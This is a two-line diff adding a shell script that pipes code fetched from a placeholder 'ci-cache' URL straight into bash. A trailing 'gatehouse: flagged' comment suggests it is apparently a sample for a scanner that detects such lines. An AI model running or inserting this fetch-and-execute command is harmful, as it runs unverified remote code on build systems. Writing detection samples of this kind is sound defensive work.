@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -fsSL https://ci-cache.example.invalid/prepare | bash # gatehouse: flagged
